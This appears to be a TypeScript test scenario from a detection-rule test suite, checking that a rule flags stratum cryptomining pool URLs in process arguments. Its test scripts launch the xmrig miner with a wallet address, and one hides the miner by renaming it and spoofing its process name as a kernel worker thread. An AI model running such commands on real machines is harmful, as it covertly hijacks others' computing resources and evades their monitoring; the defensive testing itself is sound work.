// D11: a stratum pool URL on a command line, whatever the program is called.
// The stand-in miner (attackops given -o) really logs in to the pool on the
// network's remote end.
import { NET } from '../lib/net-plan';
import type { Scenario } from '../lib/types';

const RULE = 'Stratum mining URL in command line';
const WALLET = '48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD';

export const d11: Scenario = {
  row: 'D11',
  title: 'A process whose arguments hold a stratum URL (stratum+tcp://, stratum+ssl://, stratum2+...)',
  rules: [RULE],
  mitre: 'T1496',
  category: 'cryptomining',
  cases: [
    {
      kind: 'attack',
      name: 'xmrig joins a pool by stratum+tcp://',
      script: `xmrig -o stratum+tcp://${NET.pool}:3333 -u ${WALLET} -p x`,
      expect: [{ rule: RULE, proc: 'xmrig', cmdline: /stratum\+tcp:\/\// }],
    },
    {
      kind: 'variant',
      name: 'a renamed copy started as "[kworker/0:2]" with STRATUM+SSL:// in capitals',
      evasion: ['renamed binary', 'argv[0] spoofing', 'case'],
      script: `mkdir -p /tmp/.cache && cp /usr/local/bin/xmrig /tmp/.cache/kworker && bash -c 'exec -a "[kworker/0:2]" /tmp/.cache/kworker -o STRATUM+SSL://${NET.pool}:5555 -u x'`,
      expect: [{ rule: RULE, proc: 'kworker', pname: 'sh', cmdline: /^\[kworker\/0:2\] -o STRATUM\+SSL:/ }],
    },
    {
      kind: 'variant',
      name: 'stratum2+tcp:// from dash',
      evasion: ['another shell'],
      script: `dash -c 'xmrig --url stratum2+tcp://${NET.pool}:14444 --user x'`,
      expect: [{ rule: RULE, proc: 'xmrig', pname: 'dash' }],
    },
    {
      kind: 'benign',
      name: 'a program whose arguments talk about stratum but hold no pool URL',
      script: 'echo "stratum layers: tcp ssl" > /tmp/notes; grep -c stratum /tmp/notes > /dev/null',
      marker: 'exec',
    },
  ],
};
